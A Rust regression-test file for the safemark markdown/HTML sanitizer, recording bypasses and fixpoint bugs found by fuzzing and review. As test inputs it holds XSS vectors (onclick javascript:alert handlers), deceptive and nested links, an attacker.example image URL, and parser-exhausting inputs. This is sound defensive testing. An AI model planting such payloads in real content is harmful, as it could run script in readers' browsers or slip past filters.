//! Named regression tests: every bypass, fixpoint break or slowness found while building
//! safemark (by the corpora, the properties or the fuzzers) stays here. Fuzzer finds also keep
//! their raw input in `fuzz/regressions/<target>/`, replayed by `scripts/fuzz.sh`.
// Raw HTML sanitized (and `safemark::audit`): the `html` feature. `tests/lite.rs` covers
// the build without it.
#![cfg(feature = "html")]

mod common;

use safemark::{FindingKind, Sanitizer, TerminalOptions};

fn default() -> Sanitizer {
    Sanitizer::new(Default::default()).unwrap()
}

fn assert_ok(markdown: bool, input: &str) -> safemark::Rendered {
    common::check(
        &default(),
        &common::Trusted::default(),
        markdown,
        input,
        "regression",
    )
    .unwrap_or_else(|e| panic!("{e}"))
}

/// DOMPurify's "event handlers and unknown attributes" vector: `<p><button><p>` serialized
/// after ammonia unwrapped the button did not parse back to the same tree. Fixed by unwrapping
/// removed elements before the tree is handed to ammonia.
#[test]
fn unwrapped_button_output_is_a_fixpoint() {
    assert_ok(
        true,
        "<button remove=me onmousedown=\"javascript:alert(1);\" onclick=\"javascript:alert(1)\" >@giutro",
    );
}

/// 20,000 nested `<div>`s took 2.3 s: html5ever's tree builder is quadratic in depth. Raw
/// HTML deeper than `MAX_HTML_DEPTH` is now shown as text.
#[test]
fn deep_raw_html_is_shown_as_text() {
    for markdown in [true, false] {
        let out = assert_ok(markdown, &"<div>".repeat(20_000));
        assert!(out
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NestingLimit));
        assert!(!out.html.contains("<div>"));
    }
}

/// A text of 65,536 `&#` took 120 ms and would take seconds at 1 MiB: html5ever's serializer
/// rescans the rest of a text node for every `&` it escapes. Long text nodes are now split.
#[test]
fn long_texts_are_split_into_bounded_nodes() {
    for input in [
        "&#".repeat(100_000),
        "©".repeat(50_000),
        "<p title=\"".to_string() + &"&".repeat(20_000) + "\">x</p>",
    ] {
        for markdown in [true, false] {
            let out = assert_ok(markdown, &input);
            let parsed = common::parse(&out.html);
            let mut stack = vec![parsed.root.clone()];
            while let Some(node) = stack.pop() {
                if let markup5ever_rcdom::NodeData::Text { contents } = &node.data {
                    assert!(contents.borrow().len() <= 2048);
                }
                if let markup5ever_rcdom::NodeData::Element { attrs, .. } = &node.data {
                    assert!(attrs.borrow().iter().all(|a| a.value.len() <= 16 * 1024));
                }
                stack.extend(node.children.borrow().iter().cloned());
            }
        }
    }
}

/// Two short texts separated by a removed element become one long text when the tree is read
/// back: the split must happen after merging, or the output is not a fixpoint (found by the
/// markdown-sanitizers "length limit bypass" document).
#[test]
fn adjacent_texts_are_merged_before_splitting() {
    let input = format!(
        "<div>{}<x-y>{}</x-y>{}</div>",
        "a".repeat(1500),
        "b".repeat(1500),
        "c".repeat(1500)
    );
    assert_ok(false, &input);
    assert_ok(true, &input);
}

/// serde reads a struct from a JSON array: `[]` silently became the default policy.
#[test]
fn array_policies_are_refused() {
    assert!(safemark::Policy::from_json("[]").is_err());
    assert!(safemark::Policy::from_json(r#"{"images": []}"#).is_err());
}

/// Found by the `html` fuzz target (`fuzz/regressions/html/pre-leading-newlines`): the parser
/// drops a newline after `<pre>` and html5ever's serializer does not write it back, so each
/// round trip lost one and `<pre>\n\n\n` was not a fixpoint.
#[test]
fn pre_leading_newlines_are_a_fixpoint() {
    for input in [
        "<pre>\n\n\n",
        "<pre>\nx",
        "<pre>\n\n<b>x</b></pre>",
        "<pre><b>b</b>\n\nx</pre>",
    ] {
        assert_ok(false, input);
        assert_ok(true, input);
    }
}

/// Found by the `url` fuzz target's differential check
/// (`fuzz/regressions/url/scheme-relative-with-base`): against an https base, a browser reads
/// `https:docs.example.com/a/` as a path relative to the page, not as the host
/// `docs.example.com`. With `links.base` set, destinations are now resolved against it exactly
/// as the browser would.
#[test]
fn scheme_relative_input_resolves_like_a_browser() {
    let policy = r#"{"links": {"allow": ["https://docs.example.com/"], "base": "https://docs.example.com/a/b"}}"#;
    let s = Sanitizer::from_json(policy).unwrap();
    let html = s
        .render_markdown("[x](https:docs.example.com/a/)")
        .unwrap()
        .html;
    assert!(
        html.contains(r#"href="https://docs.example.com/a/docs.example.com/a/""#),
        "{html}"
    );
}

/// Found by the `html` fuzz target (`fuzz/regressions/html/long-title-multibyte`): a blocked
/// image's tooltip was cut to 1024 characters, which for multi-byte characters exceeded the
/// 2048-byte attribute bound applied on the next pass, so the output was not a fixpoint.
#[test]
fn long_multibyte_tooltips_are_a_fixpoint() {
    let src = "\u{FFFD}".repeat(3000);
    assert_ok(false, &format!("<img src=\"x{src}\">"));
    assert_ok(true, &format!("[a](//e.example/{src}) ![b](x{src})"));
}

/// Found by the `html` fuzz target (`fuzz/regressions/html/long-id-prefix`): a long `id` was cut
/// to the attribute bound and then prefixed by ammonia, so the next pass cut it again. The
/// prefix is now added before the bound applies.
#[test]
fn long_ids_are_a_fixpoint() {
    assert_ok(false, &format!("<div id=\"{}\">x</div>", "x".repeat(5000)));
}

/// Found by a long run of the `html` fuzz target
/// (`fuzz/regressions/html/long-untrusted-url-suffix`): under `"untrusted": "url"` the visible
/// URL after an untrusted raw-HTML link was a text node the walk built but did not visit, so it
/// was split only on the next pass. Replacement nodes are now walked too.
#[test]
fn long_untrusted_url_suffix_is_a_fixpoint() {
    let s = Sanitizer::from_json(r#"{"links": {"untrusted": "url"}}"#).unwrap();
    let input = format!(
        "<a href=\"https://evil.example/{}\">x</a>",
        "%EF%BF%BD".repeat(400)
    );
    common::check(&s, &common::Trusted::default(), false, &input, "suffix").unwrap();
}

/// Found by the `markdown` fuzz target (`fuzz/regressions/markdown/long-confirm-destination-cut`):
/// under `"untrusted": "confirm"` an untrusted URL longer than 2 KiB was carried whole by the
/// markdown writer, but the HTML stage cut `data-safemark-href` like a text attribute, to
/// another destination (and the output was not a fixpoint). It is a URL: judged whole, never
/// cut.
#[test]
fn long_confirm_destination_is_carried_whole() {
    let s = common::sanitizer_for("confirm");
    let url = format!("https://evil.example/{}x", "verylongpath".repeat(200));
    for (markdown, input) in [
        (true, format!("[go]({url})")),
        (true, format!("<{url}>")),
        (false, format!("<a href=\"{url}\">go</a>")),
    ] {
        let out = common::check(
            &s,
            &common::trusted_for("confirm"),
            markdown,
            &input,
            "confirm",
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let parsed = common::parse(&out.html);
        let carried: Vec<String> = common::elements(&parsed.root)
            .iter()
            .filter_map(|(_, attrs, _)| common::attr(attrs, "data-safemark-href"))
            .map(str::to_string)
            .collect();
        assert_eq!(carried, std::slice::from_ref(&url), "{input}");
    }
}

/// Found by the `markdown` fuzz target (`fuzz/regressions/markdown/emphasis-opened-inside-raw-span`):
/// in `<a>_</a>_` the emphasis starts inside the raw `<a>` and ends after its `</a>`. The raw
/// span was sanitized on its own as soon as its tags balanced, with the emphasis' `<em>` in it,
/// and the emphasis' `</em>` was then written after it: a stray end tag, and output that was
/// not a fixpoint. A span in which a markdown tag is still open now sends the whole block to
/// the HTML stage.
#[test]
fn markdown_tag_opened_inside_raw_span() {
    for (input, expected) in [
        ("<a>_</a>_", ""),
        ("x <b>*y</b> z*", "x y z"),
        ("<span>**a</span> b**", "a b"),
        (
            "<i>~~a</i>~~ and <b>[x</b>](https://docs.example.com/)",
            // The label is written inside the `<b>` that the link's span ended up in; the
            // one the markdown stage wrote after it, outside, is text and no label.
            "a and x (docs.example.com) (docs.example.com)",
        ),
    ] {
        // Checked by the tests' oracle: safe, and the output a fixpoint (it was not).
        let out = assert_ok(true, input);
        let text = common::text(&common::parse(&out.html).root);
        assert_eq!(text.trim_end(), expected, "{}", out.html);
    }
}

/// Found by the hostile-grammar property (20,000 cases): a `<button>` inside a trusted link,
/// unwrapped before ammonia, left the paragraph's `<p>` inside the link; ammonia's parse then
/// closed the paragraph there and rebuilt the link as a copy after it, so the real-host suffix
/// added for the deceptive text ended up after the copy. The output read back as itself, but
/// sanitizing it again added a suffix after the first link. A pass now counts as final only
/// when ammonia cleaned the very tree that was judged.
#[test]
fn deceptive_link_suffix_survives_a_rebuilt_tree() {
    let input = "![a](https://attacker.example/x?d=1)<a href=\"https://docs.example.com/\">\
                 <button><span class=\"safemark-link-host\"> (evil.example)</span></script>";
    let sanitizer = common::sanitizer_for("allowlist");
    // Checked by the tests' oracle: safe, and the output a fixpoint (it was not).
    let out = common::check(
        &sanitizer,
        &common::trusted_for("allowlist"),
        true,
        input,
        "regression",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    // The link whose text names another host is followed by the real host. (The copy the
    // parser rebuilt after the paragraph holds only a line feed, which names no host. The
    // forged label in the input is not a label: it lost its class.)
    let mut links = common::links_and_suffixes(&out.html);
    links.sort();
    let docs = "https://docs.example.com/".to_string();
    let label = Some(" (docs.example.com)".to_string());
    assert_eq!(links, [(docs.clone(), None), (docs, label)], "{}", out.html);
    assert!(!out
        .html
        .contains("<span class=\"safemark-link-host\"> (evil"));
    assert!(out
        .findings
        .iter()
        .any(|f| f.kind == FindingKind::DeceptiveLink));
}

/// Found by the hostile-grammar property: a fence whose language is only an invisible
/// character (```` ```\u{E0041} ````) wrote `class="language-"` once the character was removed,
/// a class the audit does not accept. Such a fence now writes no class (the removal is still
/// reported).
#[test]
fn invisible_fence_language_writes_no_class() {
    for input in [
        "```\u{E0041} onclick=\"x\"",
        "```\u{202E}\nhi\n```",
        "```\u{E0041}\u{E0042}x\n```",
    ] {
        let out = assert_ok(true, input);
        let parsed = common::parse(&out.html);
        let code: Vec<_> = common::elements(&parsed.root)
            .into_iter()
            .filter(|(name, _, _)| name == "code")
            .collect();
        assert_eq!(code.len(), 1, "{}", out.html);
        let expected = input.ends_with("x\n```").then_some("language-x");
        assert_eq!(common::attr(&code[0].1, "class"), expected, "{}", out.html);
        assert!(out
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::InvisibleCharacters));
    }
}

/// Every input the fuzzers found (`fuzz/regressions/<target>/`), replayed here too with the
/// fuzz policies (`fuzz/policies.json`; the first byte picks one) through the fuzz oracle itself
/// (`common::check_output`, `common::check_terminal`): safe, a fixpoint, bounded.
/// Includes `html/nested-anchors-noahs-ark` and `html/nested-anchor-ladder`, where a link inside
/// a link (and the parser's limit of three identical open formatting elements) made each round
/// trip unroll the tree further: nested links are now unwrapped, and the HTML stage repeats
/// until its output is stable.
#[test]
fn fuzz_regressions_replay() {
    let policies: Vec<serde_json::Value> =
        serde_json::from_str(include_str!("../fuzz/policies.json")).unwrap();
    let sanitizers: Vec<Sanitizer> = policies
        .iter()
        .map(|p| Sanitizer::from_json(&p.to_string()).unwrap())
        .collect();
    let mut replayed = 0;
    for target in ["markdown", "html", "terminal"] {
        for bytes in fuzz_regressions(target) {
            let (first, rest) = bytes.split_first().unwrap_or((&0, &[]));
            let s = &sanitizers[usize::from(*first) % sanitizers.len()];
            let input = String::from_utf8_lossy(rest);
            replayed += 1;
            if target == "terminal" {
                common::check_terminal(s, &input);
                continue;
            }
            assert_safe_fixpoint(s, &input, target == "markdown");
        }
    }
    assert!(replayed >= 6, "only {replayed} regressions replayed");
}

/// Every policy the `policy_json` fuzz target found (`fuzz/regressions/policy_json/`), replayed
/// as that target runs it: a policy that parses round-trips through JSON, and renders the
/// target's hostile document (`fuzz/hostile.md`) safely, as a fixpoint, in both modes.
#[test]
fn fuzz_policy_regressions_replay() {
    let hostile = include_str!("../fuzz/hostile.md");
    let mut rendered = 0;
    for bytes in fuzz_regressions("policy_json") {
        let Ok(policy) = safemark::Policy::from_json(&String::from_utf8_lossy(&bytes)) else {
            continue;
        };
        assert_eq!(
            safemark::Policy::from_json(&policy.to_json()).unwrap(),
            policy
        );
        let s = Sanitizer::new(policy).unwrap();
        if hostile.len() > s.policy().limits.max_input_bytes {
            continue;
        }
        for markdown in [true, false] {
            assert_safe_fixpoint(&s, hostile, markdown);
            rendered += 1;
        }
    }
    assert!(rendered >= 2, "only {rendered} policies rendered");
}

/// The inputs kept from a fuzz target (`fuzz/regressions/<target>/`); none while a target has
/// no finds (git keeps no empty folder, so a fresh clone has none).
fn fuzz_regressions(target: &str) -> Vec<Vec<u8>> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("fuzz/regressions")
        .join(target);
    let Ok(entries) = std::fs::read_dir(dir) else {
        return Vec::new();
    };
    entries
        .map(|entry| std::fs::read(entry.unwrap().path()).unwrap())
        .collect()
}

/// What the fuzz targets assert of a render: no error, the audit finds nothing, and the output
/// is a fixpoint. The output may be longer than a small `max_input_bytes`, so it is sanitized
/// again without that limit.
/// The fuzz targets' oracle, as they run it: what the policy trusts is known for the default
/// and the confirm policy, the others are checked by the audit.
fn assert_safe_fixpoint(s: &Sanitizer, input: &str, markdown: bool) {
    let trusted = ["default", "confirm"]
        .into_iter()
        .find(|name| common::sanitizer_for(name).policy() == s.policy())
        .map(common::trusted_for);
    if let Err(e) = common::check_output(s, trusted.as_ref(), markdown, input) {
        panic!("{e}");
    }
}

/// Found by the `terminal` fuzz target in CI
/// (`fuzz/regressions/terminal/mailto-opaque-path-with-angle-brackets`), a false alarm of the
/// fuzz oracle, kept to pin the behaviour: a trusted `mailto:` keeps `<` and `>` in its opaque
/// path (the WHATWG parser encodes only controls there), and the terminal's OSC 8 hyperlink
/// carries exactly the URL the HTML renderer links, while a URL with a space (also kept in an
/// opaque path) is not made an OSC 8 hyperlink at all.
#[test]
fn terminal_hyperlink_is_the_html_href() {
    let s = Sanitizer::from_json(r#"{"links": {"allow": ["mailto:"]}}"#).unwrap();
    let input = "[mail](mailto:help@example.com<template>p')";
    let html = s.render_markdown(input).unwrap().html;
    let parsed = common::parse(&html);
    let links = common::elements(&parsed.root);
    let href = links
        .iter()
        .find(|(name, ..)| name == "a")
        .and_then(|(_, attrs, _)| common::attr(attrs, "href"))
        .expect("a trusted link");
    assert_eq!(href, "mailto:help@example.com<template>p'");
    let styled = s
        .render_terminal(input, TerminalOptions::styled())
        .unwrap()
        .text;
    assert!(
        styled.contains(&format!("\x1b]8;;{href}\x1b\\")),
        "{styled:?}"
    );
    let spaced = s
        .render_terminal("[x](<mailto:a b@example.com>)", TerminalOptions::styled())
        .unwrap()
        .text;
    assert!(!spaced.contains("\x1b]8;;m"), "{spaced:?}");
    assert!(spaced.contains("(a b@example.com)"), "{spaced:?}");
}

/// A link inside a link is unwrapped: its text stays, the outer link keeps working, and the
/// output is a fixpoint.
#[test]
fn nested_links_are_unwrapped() {
    let s = Sanitizer::from_json(r#"{"links": {"allow": ["https://docs.example.com/"]}}"#).unwrap();
    let trusted = common::trusted_for("allowlist");
    for input in [
        "<a href=\"https://docs.example.com/1\">x<table><td><a href=\"https://docs.example.com/2\">y</a></td></table></a>",
        "<a href=\"https://docs.example.com/1\">x<div><a href=\"https://docs.example.com/2\">y<div><a href=\"https://docs.example.com/3\">z</a></div></a></div></a>",
    ] {
        let out = common::check(&s, &trusted, false, input, "nested").unwrap();
        let parsed = common::parse(&out.html);
        let mut stack = vec![(parsed.root.clone(), false)];
        while let Some((node, in_link)) = stack.pop() {
            let is_link = matches!(&node.data, markup5ever_rcdom::NodeData::Element { name, .. } if &*name.local == "a");
            assert!(!(in_link && is_link), "nested link in {}", out.html);
            for c in node.children.borrow().iter() {
                stack.push((c.clone(), in_link || is_link));
            }
        }
    }
}

/// Found by the `policy_json` fuzz target in CI (`fuzz/regressions/policy_json/proxy-under-allowed-prefix`):
/// when the image proxy's own address is under an allowed image prefix, an image already
/// rewritten through the proxy matched the prefix and was proxied again, one level deeper on
/// every pass (`proxy?url=proxy%3Furl%3D…`), so the output was never a fixpoint. A URL
/// addressed to the proxy is now judged only by the URL it asks the proxy to fetch, and a
/// request that asks the proxy to fetch itself is refused.
#[test]
fn image_proxy_under_an_allowed_prefix_is_not_nested() {
    let s = Sanitizer::from_json(
        r#"{"images": {"allow": ["https://img.example.com/"], "proxy": "https://img.example.com/proxy"}}"#,
    )
    .unwrap();
    let trusted = common::Trusted {
        image_hosts: vec!["img.example.com"],
        ..Default::default()
    };
    let proxied = "https://img.example.com/proxy?url=https%3A%2F%2Fimg.example.com%2Fa.png";
    let nested = "https://img.example.com/proxy?url=https%3A%2F%2Fimg.example.com%2Fproxy%3Furl%3Dhttps%253A%252F%252Fevil.example%252Fp";
    for (markdown, input, want) in [
        (true, "![i](https://img.example.com/a.png)", Some(proxied)),
        // Raw HTML sends the paragraph through the HTML stage, which judges the image again.
        (true, "![i](https://img.example.com/a.png) <b>x</b>", Some(proxied)),
        (false, &format!("<img src=\"{proxied}\">"), Some(proxied)),
        (false, &format!("<img src=\"{nested}\">"), None),
        (true, &format!("![n]({nested})"), None),
        (
            false,
            "<img src=\"https://img.example.com/proxy?url=https%3A%2F%2Fimg.example.com%2Fa.png&url=x\">",
            None,
        ),
    ] {
        let out = common::check(&s, &trusted, markdown, input, "proxy")
            .unwrap_or_else(|e| panic!("{e}"));
        let parsed = common::parse(&out.html);
        let srcs: Vec<String> = common::elements(&parsed.root)
            .iter()
            .filter(|(name, _, _)| name == "img")
            .filter_map(|(_, attrs, _)| common::attr(attrs, "src"))
            .map(str::to_string)
            .collect();
        let want: Vec<String> = want.into_iter().map(str::to_string).collect();
        assert_eq!(srcs, want, "{input}");
    }
}

/// Found by the `url` fuzz target in a clean-clone CI run
/// (`fuzz/regressions/url/protocol-relative-image-title-allowed-when-absolute`): a
/// protocol-relative destination (`//img.example.com/p.png`) is refused as relative, and its
/// span's tooltip holds the absolute form, which the policy allows. Sanitizing the output
/// again took that span for a forgery (its tooltip is no refused destination) and removed
/// its class. Searched over every display mode, links and images, with and without a proxy.
#[test]
fn refused_relative_destination_allowed_when_absolute_is_a_fixpoint() {
    for mode in ["host", "url", "text", "confirm"] {
        for proxy in ["", r#", "proxy": "https://app.example/img""#] {
            let policy = format!(
                r#"{{"links": {{"allow": ["https://docs.example.com/"], "untrusted": "{mode}"}},
                    "images": {{"allow": ["https://img.example.com/"]{proxy}}}}}"#
            );
            let s = Sanitizer::from_json(&policy).unwrap();
            // Also past the tooltip's length, where it is cut (found in review).
            let long = "a".repeat(1100);
            for input in [
                "![x](<//img.example.com/p.\0://img.example.com/p.png>)".to_string(),
                "![x](//img.example.com/p.png)".to_string(),
                "[x](//docs.example.com/a)".to_string(),
                "<img src=\"//img.example.com/p.png\"> <a href=\"//docs.example.com/a\">x</a>"
                    .to_string(),
                format!("[x](//docs.example.com/{long}) ![y](//img.example.com/{long})"),
            ] {
                let input = input.as_str();
                let once = s.render_markdown(input).unwrap().html;
                let twice = s.sanitize_html(&once).unwrap().html;
                assert_eq!(twice, once, "{mode} {proxy}: {input:?}");
                assert!(
                    once.contains("class=\"safemark-"),
                    "{mode}: the refusal is shown: {once}"
                );
            }
        }
    }
}

/// Found in review by the hostile-grammar property (`tests/props.proptest-regressions`): a
/// footnote definition inside a block quote, after a raw tag left open in the quote, took the
/// quote's raw HTML as its own when it was set aside for the footnotes section, so the quote
/// was written with `<b onclick=alert(1)>` unsanitized. A definition now takes only the raw
/// HTML written inside it. Searched over containers and where the raw HTML stands.
#[test]
fn footnote_definition_never_takes_its_block_raw_html() {
    let sanitizer = common::sanitizer_for("default");
    let trusted = common::trusted_for("default");
    let raw = "<b onclick=alert(1)>x";
    for container in ["> ", "- ", "1. ", "   "] {
        for (before, inside, after) in [
            (raw, "note", ""),
            ("", raw, ""),
            (raw, raw, raw),
            ("", "note", raw),
        ] {
            let input = format!(
                "y[^1]\n\n{container}{before}\n{container}[^1]: {inside}\n{container}{after}\n"
            );
            let out = common::check(&sanitizer, &trusted, true, &input, "regression")
                .unwrap_or_else(|e| panic!("{e}"));
            assert!(!out.html.contains("onclick"), "{input:?}: {}", out.html);
        }
    }
}

/// Found by the `markdown` fuzz target in CI (`fuzz/regressions/markdown/isolated-blocks-texts-merge`):
/// an element left open to the end (here `<https://…>` read as a tag inside a `<script>` block
/// the tagfilter showed as text) makes the markdown stage sanitize each later block with raw
/// HTML on its own; two of them that end and start with text read back as one text node, which
/// was longer than a node may be, so sanitizing the output again split it: not a fixpoint. What
/// is written from the first block sanitized on its own is now sanitized once more as a whole.
/// The search: two blocks whose texts join, at every total length around the node bound, with
/// the unclosed element in the first or the second, in blocks of several kinds.
#[test]
fn blocks_sanitized_on_their_own_join_into_bounded_text() {
    let s = default();
    let mut checked = 0;
    for (first, second) in [
        ("<x>\n", "<y>\n"),
        ("<x>\n", "<!-- c -->\n"),
        ("<script>\n", "<y>\n"),
        ("<b>\n", "<span>\n"),
    ] {
        for n1 in [1, 700, 1024, 2040] {
            for total in 2040..2056 {
                let n2 = total - n1;
                let doc = format!("{first}{}\n\n{second}{}\n", "a".repeat(n1), "b".repeat(n2));
                assert_ok(true, &doc);
                let mut stream = s.stream();
                let mut html = stream.push(&doc).unwrap().committed;
                html.push_str(&stream.finish().unwrap().committed);
                assert_eq!(html, s.render_markdown(&doc).unwrap().html);
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 4 * 4 * 16);
}

/// What `blocks_sanitized_on_their_own_join_into_bounded_text` fixed is done only where it
/// can change something: blocks sanitized on their own, whose output is no longer than a text
/// node may be, are kept as they were written (the stream's tail renders an open `<details>`
/// on most pushes that render, and sanitized everything again each time). The claim: each
/// block's output is balanced and a fixpoint on its own, so joined they read back as
/// themselves. The search: every element left open, then two blocks of every kind (text,
/// raw HTML that opens, closes or balances elements, tables, lists, quotes, code, comments,
/// references), under two policies: every output is safe and a fixpoint, and the stream
/// commits what the batch render writes.
#[test]
fn short_blocks_sanitized_on_their_own_read_back_as_themselves() {
    let openers = [
        "<details>\n<summary>More</summary>\n",
        "<div>\n",
        "<x>\n",
        "<b>\n",
        "<p>\n",
        "<table>\n",
        "<ul>\n<li>",
        "<pre>\n",
        "<a href=\"https://docs.example.com/\">\n",
        "text <i>open\n",
        "<script>\n",
    ];
    let blocks = [
        "plain text &amp; more",
        "text <kbd>K</kbd> and H<sub>2</sub>O",
        "<b>bold",
        "</details>",
        "</div> after",
        "<p>para",
        "<td>cell",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- one\n- two",
        "> quoted *text*",
        "```\ncode <b>\n```",
        "    indented",
        "<!-- a comment -->",
        "[link](https://docs.example.com/a) and [r]\n\n[r]: https://evil.example/",
        "a  \nbreak",
    ];
    let mut checked = 0;
    for policy in ["default", "allowlist"] {
        let s = common::sanitizer_for(policy);
        let trusted = common::trusted_for(policy);
        for opener in openers {
            for first in blocks {
                for second in blocks {
                    let doc = format!("{opener}\n{first}\n\n{second}\n");
                    let out = common::check(&s, &trusted, true, &doc, "open element")
                        .unwrap_or_else(|e| panic!("{e}"));
                    let mut stream = s.stream();
                    let mut html = stream.push(&doc).unwrap().committed;
                    html.push_str(&stream.finish().unwrap().committed);
                    assert_eq!(html, out.html, "{doc:?}");
                    checked += 1;
                }
            }
        }
    }
    assert_eq!(checked, 2 * 11 * 15 * 15);
}

/// Found by the `markdown` fuzz target in a clean-clone CI run
/// (`fuzz/regressions/markdown/mailto-long-replacement-chars`): a `mailto:` link's label shows
/// its address, which is past the part of the URL that the tooltip was known to hold whole (the
/// scheme, user name, host and port). An address cut in the tooltip could not be checked
/// against the label on the next pass, which took the label for a forgery. Searched over every
/// display mode (and with an image proxy), every part of a URL made long, at every length
/// across the tooltip's cut, in each syntax a link or image is written in: every output is
/// safe and a fixpoint, and the refusal is still shown.
#[test]
fn long_parts_of_refused_destinations_are_a_fixpoint() {
    let shapes = [
        "https://X@evil.example/",
        "https://u:X@evil.example/",
        "https://evil.example:8080/X",
        "https://evil.example/?X",
        "https://evil.example/#X",
        "mailto:X@evil.example",
        "mailto:help@X.example",
        "mailto:help@evil.example?subject=X",
    ];
    let fills = (990..1040)
        .map(|n| "a".repeat(n))
        .chain((108..118).map(|n| "\u{FFFD}".repeat(n)));
    let fills: Vec<String> = fills.collect();
    let proxied = common::Trusted {
        image_hosts: vec!["img.app.example"],
        ..Default::default()
    };
    for (mode, images, trusted) in [
        ("host", "", common::Trusted::default()),
        ("url", "", common::Trusted::default()),
        ("text", "", common::Trusted::default()),
        ("confirm", "", common::Trusted::default()),
        (
            "host",
            r#", "images": {"allow": ["https://evil.example/"], "proxy": "https://img.app.example/p"}"#,
            proxied,
        ),
    ] {
        let policy = format!(r#"{{"links": {{"untrusted": "{mode}"}}{images}}}"#);
        let s = Sanitizer::from_json(&policy).unwrap();
        for shape in shapes {
            for fill in &fills {
                let url = shape.replace('X', fill);
                for (markdown, input) in [
                    (true, format!("[t](<{url}>)")),
                    (true, format!("<{url}>")),
                    (true, format!("![t](<{url}>)")),
                    (false, format!("<a href=\"{url}\">t</a>")),
                    (false, format!("<img src=\"{url}\" alt=t>")),
                ] {
                    let context = format!("{mode} {shape} ({} bytes)", fill.len());
                    let out = common::check(&s, &trusted, markdown, &input, &context)
                        .unwrap_or_else(|e| panic!("{e}"));
                    // Refused and shown, or an image allowed through the proxy.
                    assert!(
                        out.html.contains("class=\"safemark-") || out.html.contains("<img "),
                        "{context}: the refusal is shown: {}",
                        out.html
                    );
                }
            }
        }
    }
}

/// Found by the `markdown` fuzz target in a clean-clone CI run
/// (`fuzz/regressions/markdown/data-image-tooltip-cut-before-comma`): a refused `data:` image
/// whose tooltip was cut before the URL's comma lost its class when the output was sanitized
/// again, since the cut alone is not a `data:` image. A cut tooltip is also read with a
/// witness now; `tests/bounds.rs` crosses the cut with every kind of destination.
#[test]
fn data_image_tooltip_cut_before_comma_is_a_fixpoint() {
    let input = format!(
        "![x](data:image/png;base64{},iVBORw0KGgo=)",
        "\u{FFFD}".repeat(190)
    );
    for policy in ["default", "confirm"] {
        let out = common::check(
            &common::sanitizer_for(policy),
            &common::trusted_for(policy),
            true,
            &input,
            policy,
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert!(
            out.html.contains("class=\"safemark-blocked-image\""),
            "{}",
            out.html
        );
    }
}

/// Found by `tests/adjacency.rs`: the math spans safemark writes (`"math": true`) and keeps in
/// raw HTML were violations to `safemark::audit`, whose class list lacked them. The audit must
/// accept whatever the sanitizer keeps: every allowlisted element, every attribute it allows
/// on it and every class, each sanitized on its own under three policies (one with math),
/// passes the oracle
/// (the independent check, the audit, the fixpoint).
#[test]
fn audit_accepts_everything_the_allowlist_keeps() {
    use safemark::html_allowlist::{CLASSES, GENERIC_ATTRIBUTES, TAGS, TAG_ATTRIBUTES};
    let wrap = |tag: &str, inner: String| -> String {
        let (before, after) = match tag {
            "td" | "th" => ("<table><tr>", "</tr></table>"),
            "tr" => ("<table>", "</table>"),
            "tbody" | "thead" | "tfoot" | "caption" | "colgroup" | "col" => ("<table>", "</table>"),
            "li" => ("<ul>", "</ul>"),
            "dt" | "dd" => ("<dl>", "</dl>"),
            "rt" | "rp" => ("<ruby>x", "</ruby>"),
            "summary" => ("<details>", "</details>"),
            "figcaption" => ("<figure>", "</figure>"),
            _ => ("", ""),
        };
        format!("{before}{inner}{after}")
    };
    let value = |attribute: &str| match attribute {
        "href" => "https://docs.example.com/a",
        "src" => "https://img.example.com/i.png",
        "datetime" => "2026-12-02",
        "type" => "checkbox",
        _ => "1",
    };
    let mut inputs = Vec::new();
    for tag in TAGS {
        let attributes = TAG_ATTRIBUTES
            .iter()
            .filter(|(t, _)| t == tag)
            .flat_map(|(_, a)| a.iter())
            .chain(GENERIC_ATTRIBUTES.iter());
        for attribute in attributes {
            let element = format!("<{tag} {attribute}=\"{}\">x</{tag}>", value(attribute));
            inputs.push(wrap(tag, element));
        }
        inputs.push(wrap(tag, format!("<{tag}>x</{tag}>")));
    }
    // Every class and every pair of classes (safemark writes `math math-inline`).
    for (tag, classes) in CLASSES {
        for first in *classes {
            for second in *classes {
                let class = if first == second {
                    first.to_string()
                } else {
                    format!("{first} {second}")
                };
                inputs.push(wrap(tag, format!("<{tag} class=\"{class}\">x</{tag}>")));
            }
        }
    }
    let math = Sanitizer::from_json(r#"{"math": true}"#).unwrap();
    let sanitizers = [
        (
            common::sanitizer_for("default"),
            common::trusted_for("default"),
        ),
        (
            common::sanitizer_for("confirm"),
            common::trusted_for("confirm"),
        ),
        (math, common::trusted_for("default")),
    ];
    for (s, trusted) in &sanitizers {
        for input in &inputs {
            common::check(s, trusted, false, input, "allowlist").unwrap_or_else(|e| panic!("{e}"));
        }
    }
    assert!(inputs.len() > TAGS.len() * 2, "{}", inputs.len());
}

/// Found by the `markdown` fuzz target in a clean-clone CI run
/// (`fuzz/regressions/markdown/fully-qualified-trusted-host`): not a safemark bug but the
/// tests' own rule, which took `docs.example.com.` (the fully qualified name, trailing dot)
/// for another host than the allowed `docs.example.com`. safemark's policy matches it as the
/// same host (DNS resolves it so). Every spelling of an allowed host the policy matches, in
/// every syntax: allowed, and the independent rule agrees.
#[test]
fn fully_qualified_trusted_hosts_are_the_same_host() {
    let s = common::sanitizer_for("confirm");
    let trusted = common::trusted_for("confirm");
    let spellings = [
        ("docs.example.com.", "img.example.com."),
        ("DOCS.example.com.", "IMG.example.com."),
        ("docs.example.com", "img.example.com"),
        ("%64ocs.example.com.", "%69mg.example.com."),
    ];
    for (host, image_host) in spellings {
        for (markdown, input) in [
            (true, format!("[x](https://{host}/a)")),
            (true, format!("<https://{host}/a>")),
            (true, format!("[x]\n\n[x]: https://{host}/a")),
            (false, format!("<a href=\"https://{host}/a\">x</a>")),
        ] {
            let out = common::check(&s, &trusted, markdown, &input, host)
                .unwrap_or_else(|e| panic!("{e}"));
            assert!(
                out.html.contains("<a href=\"https://docs.example.com"),
                "{input}: {}",
                out.html
            );
        }
        for (markdown, input) in [
            (true, format!("![i](https://{image_host}/i.png)")),
            (
                false,
                format!("<img src=\"https://{image_host}/i.png\" alt=i>"),
            ),
        ] {
            let out = common::check(&s, &trusted, markdown, &input, image_host)
                .unwrap_or_else(|e| panic!("{e}"));
            assert!(out.html.contains("<img "), "{input}: {}", out.html);
        }
    }
}

